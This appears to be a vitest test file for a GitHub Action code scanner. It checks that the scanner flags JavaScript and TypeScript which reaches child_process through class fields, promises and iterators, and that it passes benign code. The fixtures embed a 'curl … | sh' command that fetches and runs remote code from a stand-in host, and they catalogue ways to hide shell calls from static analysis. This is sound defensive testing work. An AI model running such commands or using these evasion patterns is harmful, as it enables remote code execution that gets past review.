import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { errorAnnotations, gate, pullRequest, put } from "./pr";

// The December 9 red-team round on JavaScript and TypeScript: each pull request below passed the built Action (exit 0)
// before its fix, and runs its command under Node 20 as written.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("a class of the file handed to a function, which reads its static or instance slots", () => {
  it("scan/shell-command: `use(K)` of `class K { static run = cp.execSync }` to a function calling `k.run(…)`, `class K { static m = require(\"child_process\") }` to another file's function calling `k.m.exec(…)`, and `use(new K())` of a field `run = cp.execSync`, fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/static.js", `const cp = require("child_process");\nclass K { static run = cp.execSync }\nfunction use(k) { return k.run("${CMD}") }\nuse(K);\n`);
      put(dir, "agent/use.ts", `export const use = (k: any) => k.m.exec("${CMD}");\n`);
      put(dir, "agent/module-slot.ts", `import { use } from "./use";\nclass K { static m = require("child_process") }\nuse(K);\n`);
      put(dir, "agent/instance.js", `const cp = require("child_process");\nclass K { run = cp.execSync }\nconst use = (k) => k.run("${CMD}");\nuse(new K());\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorAnnotations(r.commands)).toEqual([
      "scan/shell-command agent/instance.js 3 20",
      "scan/shell-command agent/instance.js 4 5",
      "scan/shell-command agent/module-slot.ts 3 5",
      "scan/shell-command agent/static.js 3 26",
      "scan/shell-command agent/static.js 4 5",
    ]);
  });

  it("a class without watched slots handed to a function, and one with a watched module handed to a function reading no call of it, pass the built Action (exit 0)", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/classes.js", 'const cp = require("child_process");\nclass Q { static n = 1 }\nfunction use(k) { return k.n }\nuse(Q);\nclass M { static m = cp }\nfunction consts(k) { return k.m.constants }\nconsts(M);\n');
    });
    const r = await gate(api, pr);
    expect(errorAnnotations(r.commands)).toEqual([]);
    expect(r.code).toBe(0);
  });
});

describe("promises and iterators", () => {
  it("scan/shell-command: `Promise.race([cp]).then((m) => m.execSync(…))`, `await new Promise((r) => r(cp))`, `Promise.all([cp]).then(([m]) => …)` and `for (const [i, f] of [cp.execSync].entries())` fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/promised.mjs", `import cp from "node:child_process";\nPromise.race([cp]).then((m) => m.execSync("${CMD}"));\nconst m = await new Promise((r) => r(cp));\nm.execSync("${CMD}");\nPromise.all([cp]).then(([n]) => n.execSync("${CMD}"));\nfor (const [i, f] of [cp.execSync].entries()) f("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorAnnotations(r.commands)).toEqual(["scan/shell-command agent/promised.mjs 2 32", "scan/shell-command agent/promised.mjs 4 1", "scan/shell-command agent/promised.mjs 5 33", "scan/shell-command agent/promised.mjs 6 47"]);
  });

  it("promises and entries of values no rule watches pass the built Action (exit 0)", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/plain.mjs", 'const wait = await new Promise((r) => setTimeout(() => r(1), 1));\nPromise.race([Promise.resolve(wait)]).then((v) => console.log(v));\nfor (const [i, x] of ["a", "b"].entries()) console.log(i, x);\n');
    });
    const r = await gate(api, pr);
    expect(errorAnnotations(r.commands)).toEqual([]);
    expect(r.code).toBe(0);
  });
});
